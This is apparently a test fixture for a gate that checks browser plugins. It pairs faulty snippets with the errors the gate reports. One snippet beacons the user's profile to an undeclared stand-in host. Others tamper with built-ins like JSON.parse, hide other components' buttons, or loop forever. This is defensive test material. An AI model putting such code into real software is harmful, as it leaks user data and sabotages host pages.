import type { BrowserArea } from './browser-area';

/** What the browser's part of the gate has to refuse: what the area does, the reason, and whether the sources say what did it. */
export const REFUSED_IN_BROWSER: readonly [
  rule: string,
  what: string,
  area: BrowserArea,
  reason: RegExp,
  placed: boolean,
][] = [
  [
    'P-52',
    'that falls over an empty list',
    { page: 'return rows === null ? null : <h1>{rows[0].title}</h1>;' },
    /page "list" \(\/promo\), a guest, empty answers, 1440 px: it throws: TypeError: Cannot read properties of undefined \(reading 'title'\)/,
    true,
  ],
  [
    'P-52',
    'that falls over a player',
    {
      page: "if (host.session.player) throw new Error('no purse'); return <h1>{t('list.title')}</h1>;",
    },
    /page "list" \(\/promo\), a player, full answers, 1440 px: it throws: Error: no purse/,
    true,
  ],
  [
    'P-52',
    'whose form throws when it is sent',
    {
      page: `const send = (event) => { event.preventDefault(); throw new Error('no form'); };
        return <form onSubmit={send}><Button type="submit">{t('list.more')}</Button></form>;`,
    },
    /page "list" \(\/promo\), a guest, full answers, 1440 px: an error that nobody catches: Error: no form/,
    true,
  ],
  [
    'P-52',
    'that leaves a refused call to nobody',
    { mount: "host.http.call({ method: 'GET', path: '/json-api/none', auth: 'none' });" },
    /it is mounted, a guest, full answers, 1440 px: an error that nobody catches: a promise is rejected/,
    false,
  ],
  [
    'P-52',
    'that complains to the console',
    { slot: "useEffect(() => console.error('odd'), []); return null;" },
    /slot "widget", a guest, full answers, 1440 px: an error in the console: odd/,
    true,
  ],
  [
    'P-53',
    'that paints in a browser what no server painted',
    { page: "return <h1>{typeof window === 'undefined' ? 'Server' : 'Browser'}</h1>;" },
    /page "list" \(\/promo\) over the markup of its server build, a guest, .*: "<h1>Server<\/h1>" became "<h1>Browser<\/h1>"/,
    true,
  ],
  [
    'P-54',
    'that is busy 400 ms of every 405',
    {
      mount: `const busy = () => { const end = performance.now() + 400; while (performance.now() < end); };
        const timer = setInterval(busy, 405);`,
      dispose: 'clearInterval(timer);',
    },
    /a guest, full answers, 1440 px: it uses \d+ % of a processor while nothing happens, 20 are the most/,
    true,
  ],
  [
    'P-54',
    'with an effect that causes itself',
    {
      page: 'const [at, setAt] = useState(0); useEffect(() => setAt(at + 1), [at]); return <h1>{t("list.title")}</h1>;',
    },
    /page "list" .*: it uses \d+ % of a processor while nothing happens/,
    true,
  ],
  [
    'P-54',
    'whose page works for 400 ms at once',
    {
      top: 'let times = 0;',
      page: `useState(() => { let sum = 0; for (let at = 0; at < 6e8 && times < 3; at += 1) sum += at % 7; return sum + times++; });
        return <h1>{t('list.title')}</h1>;`,
    },
    /page "list" \(\/promo\), a guest, full answers, 1440 px: one task works for \d+ ms, 200 are the most/,
    true,
  ],
  [
    'P-54',
    'that never ends',
    { slot: 'useEffect(() => { for (;;); }, []); return null;' },
    /slot "widget", a guest, full answers, 1440 px: it works without an end/,
    false,
  ],
  [
    'P-55',
    'that keeps half a million objects of each time',
    {
      top: 'const kept = [];',
      mount:
        'if (host.session.player) kept.push(Array.from({ length: 500_000 }, (_, at) => ({ at })));',
    },
    /it is mounted 20 times, a player, full answers, 1440 px: \d+ kB of memory stay of each time/,
    true,
  ],
  [
    'P-55',
    'that goes on listening',
    { slot: "useEffect(() => window.addEventListener('resize', () => {}), []); return null;" },
    /it is mounted 20 times, .*: \d+(\.\d)? listeners stay of each time/,
    true,
  ],
  [
    'P-55',
    'whose dispose throws',
    { dispose: "throw new Error('no end');" },
    /it is disposed of, a guest, full answers, 1440 px: its dispose throws: Error: no end/,
    true,
  ],
  [
    'P-55',
    'that still hears of the clock',
    { mount: 'host.clock.everySecond(() => {});' },
    /it is disposed of, a guest, full answers, 1440 px: afterwards it still listens: clock/,
    false,
  ],
  [
    'P-56',
    'that sends the profile to others',
    {
      mount: `if (host.session.profile)
        navigator.sendBeacon('https://collect.test/in', JSON.stringify(host.session.profile));`,
    },
    /it is mounted, a player, full answers, 1440 px: it asks https:\/\/collect\.test, which it has not declared/,
    true,
  ],
  [
    'P-57',
    'that replaces a function of the language',
    {
      top: 'const { map } = Array.prototype; Array.prototype.map = function (...given) { return map.apply(this, given); };',
    },
    /it was opened and disposed of: it changes Array\.prototype\.map/,
    true,
  ],
  [
    'P-57',
    'that adds a global',
    { mount: 'window.promoState = { host };' },
    /it was opened and disposed of: it adds the global promoState/,
    true,
  ],
  [
    'P-57',
    'whose sheet hides others’ buttons',
    { styles: 'button, header { display: none !important }' },
    /it was opened and disposed of: it changes others in the page: header: display is none, was block/,
    false,
  ],
  [
    'P-58',
    'that shows the key of a text',
    { page: "return <h1>{t('list.lost')}</h1>;" },
    /page "list" .*: it shows "list\.lost", a key without a text/,
    true,
  ],
  [
    'P-58',
    'that forgets to look a text up',
    { page: 'return <h1>list.title</h1>;' },
    /page "list" .*: it shows "list\.title", the key of a text/,
    true,
  ],
  [
    'P-58',
    'with a field that nobody can name',
    { page: 'return <input />;' },
    /page "list" .*\(label\): <input>/,
    true,
  ],
  [
    'P-52',
    'that falls over a refused call',
    {
      page: `const [names, setNames] = useState(null);
        useEffect(() => { host.http.call(getPromos).then(({ data }) => setNames(data), (error) => setNames(error)); }, [host]);
        return <h1>{names === null ? t('list.title') : names.map(({ title }) => title).join()}</h1>;`,
    },
    /page "list" \(\/promo\), a guest, failed answers, 1440 px: it throws: TypeError: names\.map is not a function/,
    true,
  ],
  [
    'P-52',
    'whose widget falls over a player',
    { slot: "if (useHost().session.player) throw new Error('no badge'); return <p>Widget</p>;" },
    /slot "widget", a player, full answers, 1440 px: it throws: Error: no badge/,
    true,
  ],
  [
    'P-52',
    'whose button leaves a rejection to nobody',
    {
      page: "return <Button onClick={() => Promise.reject(new Error('no seat'))}>{t('list.more')}</Button>;",
    },
    /page "list" \(\/promo\), a guest, full answers, 1440 px: an error that nobody catches: .*no seat/,
    true,
  ],
  [
    'P-54',
    'that works without an end when it is mounted',
    { mount: "if (typeof document !== 'undefined') for (;;);" },
    /it is mounted, a guest, full answers, 1440 px: it works without an end/,
    false,
  ],
  [
    'P-55',
    'that leaves a list of each time in the page',
    {
      slot: `useEffect(() => { const list = document.createElement('ul'); list.innerHTML = '<li></li>'.repeat(3);
        document.body.append(list); }, []); return <p>Widget</p>;`,
    },
    /it is mounted 20 times, .*: \d+(\.\d)? (nodes|elements) stay of each time/,
    false,
  ],
  [
    'P-56',
    'that loads a picture of others',
    { slot: 'return <img alt="" src="https://pictures.test/one.png" />;' },
    /slot "widget", a guest, full answers, 1440 px: it asks https:\/\/pictures\.test, which it has not declared/,
    false,
  ],
  [
    'P-57',
    'that replaces how texts become data',
    { mount: 'const { parse } = JSON; JSON.parse = (text) => parse(text);' },
    /it was opened and disposed of: it changes JSON\.parse/,
    true,
  ],
];
